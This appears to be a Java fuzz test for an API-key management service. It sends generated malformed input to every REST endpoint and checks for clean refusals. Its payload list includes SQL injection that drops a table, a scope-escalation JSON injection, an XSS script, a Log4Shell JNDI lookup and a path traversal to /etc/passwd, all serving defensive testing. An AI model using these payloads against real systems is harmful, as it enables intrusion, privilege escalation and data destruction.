package io.keyplane.common;

import static io.restassured.RestAssured.given;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.ByteArrayInputStream;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import java.util.UUID;

import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

import com.fasterxml.jackson.databind.ObjectMapper;

import io.keyplane.support.TestDatabase;
import io.keyplane.support.TestWorkspace;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.response.Response;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;

/**
 * Generated input over every endpoint, with and without a credential: malformed JSON, wrong types, huge and empty
 * strings, control characters and unicode edge cases, SQL- and JSON-injection strings, huge numbers, bad ids,
 * cursors and dates, oversized and chunked bodies. Whatever comes in: never a 5xx; every refusal is problem+json
 * with a documented code; a refused request changes nothing but the audit and usage records of the refusal.
 * <p>
 * jqwik makes the values (its generators, from a fixed seed, so a failure names the seed that repeats it); the
 * requests run inside this {@code @QuarkusTest}.
 */
@QuarkusTest
class GeneratedInputTest {

    static final long SEED = Long.getLong("generated-input.seed", 20261126L);
    static final int REQUESTS_PER_ENDPOINT = Integer.getInteger("generated-input.requests", 12);

    /** Every code the API documents (API.md sections 1, 2, 4 and 9). */
    static final Set<String> DOCUMENTED = Set.of("validation_failed", "unprocessable", "scope_exceeds_account",
            "unknown_scope", "missing_credentials", "invalid_token", "key_revoked", "key_expired", "key_paused",
            "service_account_disabled", "service_key_required", "insufficient_scope", "workspace_mismatch",
            "workspace_header_mismatch", "ip_not_allowed", "not_found", "method_not_allowed", "unsupported_media_type",
            "not_acceptable", "payload_too_large", "rate_limited", "service_unavailable", "scope_exists",
            "scope_in_use", "scope_built_in", "already_rotated", "not_revealable", "idempotency_key_reused");

    record Endpoint(String method, String path, List<String> fields) {
        boolean takesBody() {
            return fields != null;
        }
    }

    static final List<String> WORKSPACE = List.of("name");
    static final List<String> ACCOUNT = List.of("name", "description", "scopes", "status");
    static final List<String> KEY = List.of("name", "kind", "service_account_id", "scopes", "expires_at",
            "expires_in_days", "rate_limit", "tier", "allowed_cidrs", "meta");

    static final List<Endpoint> ENDPOINTS = List.of(
            new Endpoint("POST", "/api/v1/workspaces", WORKSPACE),
            new Endpoint("GET", "/api/v1/workspaces", null),
            new Endpoint("GET", "/api/v1/workspaces/{ws}", null),
            new Endpoint("PATCH", "/api/v1/workspaces/{ws}", WORKSPACE),
            new Endpoint("DELETE", "/api/v1/workspaces/{ws}", null),
            new Endpoint("GET", "/api/v1/workspaces/{ws}/service-accounts", null),
            new Endpoint("POST", "/api/v1/workspaces/{ws}/service-accounts", ACCOUNT),
            new Endpoint("GET", "/api/v1/workspaces/{ws}/service-accounts/{sa}", null),
            new Endpoint("PATCH", "/api/v1/workspaces/{ws}/service-accounts/{sa}", ACCOUNT),
            new Endpoint("DELETE", "/api/v1/workspaces/{ws}/service-accounts/{sa}", null),
            new Endpoint("GET", "/api/v1/workspaces/{ws}/scopes", null),
            new Endpoint("POST", "/api/v1/workspaces/{ws}/scopes", List.of("name", "description")),
            new Endpoint("DELETE", "/api/v1/workspaces/{ws}/scopes/{scope}", null),
            new Endpoint("GET", "/api/v1/workspaces/{ws}/api-keys", null),
            new Endpoint("POST", "/api/v1/workspaces/{ws}/api-keys", KEY),
            new Endpoint("GET", "/api/v1/workspaces/{ws}/api-keys/{key}", null),
            new Endpoint("PATCH", "/api/v1/workspaces/{ws}/api-keys/{key}", KEY),
            new Endpoint("DELETE", "/api/v1/workspaces/{ws}/api-keys/{key}", null),
            new Endpoint("POST", "/api/v1/workspaces/{ws}/api-keys/{key}/pause", null),
            new Endpoint("POST", "/api/v1/workspaces/{ws}/api-keys/{key}/resume", null),
            new Endpoint("POST", "/api/v1/workspaces/{ws}/api-keys/{key}/rotate", List.of("grace_period_seconds")),
            new Endpoint("GET", "/api/v1/workspaces/{ws}/api-keys/{key}/reveal", null),
            new Endpoint("GET", "/api/v1/workspaces/{ws}/api-keys/{key}/usage", null),
            new Endpoint("GET", "/api/v1/workspaces/{ws}/audit-log", null),
            new Endpoint("GET", "/api/v1/workspaces/{ws}/audit-log/verify", null),
            new Endpoint("GET", "/api/v1/workspaces/{ws}/audit-log/export", null),
            new Endpoint("POST", "/api/v1/keys/verify", List.of("key", "scopes", "source_ip", "method", "path",
                    "user_agent", "kinds")),
            new Endpoint("GET", "/api/v1/whoami", null));

    static final List<String> QUERY = List.of("limit", "cursor", "status", "kind", "service_account_id", "action",
            "actor_id", "target_id", "outcome", "since", "until", "from_seq", "to_seq", "full");

    // --- the generators ---

    static final Arbitrary<String> NASTY = Arbitraries.oneOf(
            Arbitraries.strings().ofMaxLength(40),
            Arbitraries.strings().all().ofMaxLength(20),
            Arbitraries.strings().withChars('\u0000', '\u0007', '\n', '\r', '\u001b', '\u007f', '\u0085', '\u2028',
                    '\uFEFF', '\u202E').ofMinLength(1).ofMaxLength(8),
            Arbitraries.of("", " ", "' OR '1'='1", "'; drop table api_key; --", "1; select pg_sleep(5)",
                    "{\"$ne\": null}", "\",\"scopes\":[\"workspace:admin\"],\"x\":\"", "</script><script>alert(1)",
                    "${jndi:ldap://example.com/a}", "%00", "%2e%2e%2f", "../../etc/passwd", "\uD83D\uDE00\u0301",
                    "\uD800", "null", "true", "NaN", "-0", "9".repeat(400), "workspace:admin", "database:*", "*:*",
                    "kp_svc_", "kp_live_" + "A".repeat(49), "2026-13-45T25:61:00Z", "0000-00-00", "9999999999999",
                    "not-a-uuid", UUID.randomUUID().toString(), "00000000-0000-0000-0000-000000000000"),
            Arbitraries.strings().alpha().ofLength(5000));

    static final Arbitrary<Object> SCALAR = Arbitraries.oneOf(NASTY.map(s -> (Object) s),
            Arbitraries.integers().map(i -> (Object) i), Arbitraries.longs().map(l -> (Object) l),
            Arbitraries.of(Long.MAX_VALUE, Long.MIN_VALUE, 1e308, -1e308, 0.1, Double.MIN_VALUE), Arbitraries.of(true, false),
            Arbitraries.just(null));

    static final Arbitrary<Object> VALUE = Arbitraries.oneOf(SCALAR,
            SCALAR.list().ofMaxSize(5).map(l -> (Object) l),
            Arbitraries.maps(NASTY.filter(k -> k.length() < 30), SCALAR).ofMaxSize(4).map(m -> (Object) m));

    /** Raw bodies no parser should choke on. */
    static final Arbitrary<String> MALFORMED = Arbitraries.of("{", "}", "[", "{\"name\":", "{\"name\": \"x\",}",
            "{'name': 'x'}", "{\"name\": \"\\ud800\"}", "{\"name\": \"x\"}{\"name\": \"y\"}", "\u0000",
            "[" + "[".repeat(5000) + "]".repeat(5000) + "]", "{\"a\":" + "1".repeat(2000) + "}", "1e99999999",
            "\"just a string\"", "42", "null", "true", "[]", "{\"name\": 1e400}", "\uFEFF{\"name\": \"bom\"}");

    final ObjectMapper json = new ObjectMapper();
    TestWorkspace ws;
    Map<String, String> real;

    @BeforeEach
    void freshWorkspace() {
        ws = TestWorkspace.create();
        var account = given().auth().oauth2(ws.ownerKey()).contentType("application/json")
                .body(Map.of("name", "fuzzed", "scopes", List.of("keys:read"))).post(ws.path("/service-accounts"))
                .then().statusCode(201).extract().<String>path("id");
        given().auth().oauth2(ws.ownerKey()).contentType("application/json").body(Map.of("name", "fuzz:read"))
                .post(ws.path("/scopes")).then().statusCode(201);
        var key = ws.createKey(Map.of("name", "fuzzed", "kind", "ingest")).getString("id");
        real = Map.of("ws", ws.id(), "sa", account, "scope", "fuzz:read", "key", key);
    }

    @Test
    void withACredential() {
        run(new Random(SEED), true);
    }

    @Test
    void withoutOne() {
        run(new Random(SEED + 1), false);
    }

    void run(Random random, boolean authenticated) {
        net.jqwik.engine.SourceOfRandomness.create(String.valueOf(random.nextLong())); // reproducible from SEED
        for (var endpoint : ENDPOINTS) {
            for (int i = 0; i < REQUESTS_PER_ENDPOINT; i++) {
                send(random, endpoint, authenticated, i);
            }
        }
    }

    void send(Random random, Endpoint endpoint, boolean authenticated, int n) {
        var request = given().urlEncodingEnabled(false).redirects().follow(false);
        var described = new StringBuilder(endpoint.method()).append(' ');
        var credential = authenticated
                ? (random.nextInt(4) == 0 ? TestWorkspace.OPERATOR : ws.ownerKey())
                : (random.nextBoolean() ? null : sample(NASTY, random));
        if (credential != null) {
            request.header("Authorization", random.nextInt(10) == 0 ? credential : "Bearer " + credential);
        }
        var path = endpoint.path();
        for (var placeholder : List.of("ws", "sa", "scope", "key")) {
            if (path.contains("{" + placeholder + "}")) {
                var id = random.nextInt(3) == 0 ? sample(NASTY, random) : real.get(placeholder);
                path = path.replace("{" + placeholder + "}", encode(id));
            }
        }
        described.append(path);
        if (endpoint.method().equals("GET") && random.nextBoolean()) {
            var query = new StringBuilder();
            for (int q = random.nextInt(3); q >= 0; q--) {
                query.append(query.isEmpty() ? "?" : "&").append(QUERY.get(random.nextInt(QUERY.size())))
                        .append('=').append(encode(sample(NASTY, random)));
            }
            path += query;
            described.append(query);
        }
        if (random.nextInt(8) == 0) {
            request.header("X-Workspace-ID", sample(NASTY, random).replaceAll("[\\r\\n\\u0000]", ""));
        }
        // a request line past the server's limit (Vert.x: 4096 bytes) is refused before its body is read
        boolean oversized = path.length() > 4000;
        if (endpoint.takesBody() || random.nextInt(6) == 0) {
            var body = body(random, endpoint);
            oversized |= body.length > BodyLimit.MAX_BODY_BYTES;
            request.contentType(random.nextInt(10) == 0 ? "text/plain" : "application/json");
            if (random.nextInt(5) == 0) {
                request.body(new ByteArrayInputStream(body)); // chunked: no Content-Length
                described.append(" chunked");
            } else {
                request.body(body);
            }
            described.append(" body ").append(body.length > 200 ? body.length + " bytes" : new String(body, StandardCharsets.UTF_8));
        }
        var before = state();
        Response response;
        try {
            response = request.request(endpoint.method(), path);
        } catch (Exception e) { // rest-assured rethrows the socket's IOException unchecked
            // an oversized body or request line may be answered (413, 414) and the connection closed while the
            // client still writes
            assertTrue(oversized && (e instanceof java.io.IOException || e.getCause() instanceof java.io.IOException),
                    "no response to " + described + ": " + e);
            assertEquals(before, state(), "a refused request changed the database: " + described);
            return;
        }
        check(response, described + " [seed " + SEED + ", request " + n + "]", before);
    }

    byte[] body(Random random, Endpoint endpoint) {
        try {
            return switch (random.nextInt(6)) {
                case 0 -> sample(MALFORMED, random).getBytes(StandardCharsets.UTF_8);
                case 1 -> json.writeValueAsBytes(sample(VALUE, random));
                case 2 -> ("{\"name\":\"" + "x".repeat(70 * 1024) + "\"}").getBytes(StandardCharsets.UTF_8);
                default -> {
                    var object = new LinkedHashMap<String, Object>();
                    var fields = endpoint.fields() == null ? List.of("name") : endpoint.fields();
                    for (var field : fields) {
                        if (random.nextBoolean()) {
                            object.put(field, sample(VALUE, random));
                        }
                    }
                    if (random.nextInt(4) == 0) {
                        object.put(sample(NASTY, random), sample(SCALAR, random));
                    }
                    yield json.writeValueAsBytes(object);
                }
            };
        } catch (com.fasterxml.jackson.core.JsonProcessingException e) {
            throw new IllegalStateException(e);
        }
    }

    void check(Response response, String request, List<Map<String, Object>> before) {
        int status = response.statusCode();
        assertTrue(status < 500, status + " for " + request + ": " + response.asString());
        if (status < 400) {
            return;
        }
        if (status == 414 || status == 431) {
            // a request line over 4 KiB or headers over 20 KiB: the HTTP server refuses it before any handler runs,
            // so with no body (docs/concepts.md "Errors"); nothing reached the application, nothing changed
            assertEquals(before, state(), request);
            return;
        }
        var contentType = response.contentType();
        assertTrue(contentType != null && contentType.startsWith("application/problem+json"),
                "problem+json for " + status + " " + request + ", got " + contentType);
        String code = response.jsonPath().getString("code");
        assertTrue(DOCUMENTED.contains(code), "undocumented code " + code + " for " + request);
        assertNotNull(response.jsonPath().getString("request_id"), request);
        assertEquals(before, state(), "a refused request changed the database: " + request);
    }

    /** What a refused request must leave as it was: every table but the audit log and the usage history. */
    static List<Map<String, Object>> state() {
        return TestDatabase.query("""
                select (select count(*) from workspace) as workspaces,
                       (select max(updated_at) from workspace) as workspace_changed,
                       (select count(*) from service_account) as accounts,
                       (select max(updated_at) from service_account) as account_changed,
                       (select count(*) from scope) as scopes,
                       (select count(*) from api_key) as keys,
                       (select max(updated_at) from api_key) as key_changed,
                       (select count(*) from idempotency_record) as idempotency""");
    }

    /** One value; the generators draw from jqwik's random, which {@link #run} seeds. */
    static <T> T sample(Arbitrary<T> arbitrary, Random random) {
        return arbitrary.sample();
    }

    static String encode(String value) {
        return java.net.URLEncoder.encode(value, StandardCharsets.UTF_8).replace("+", "%20");
    }
}
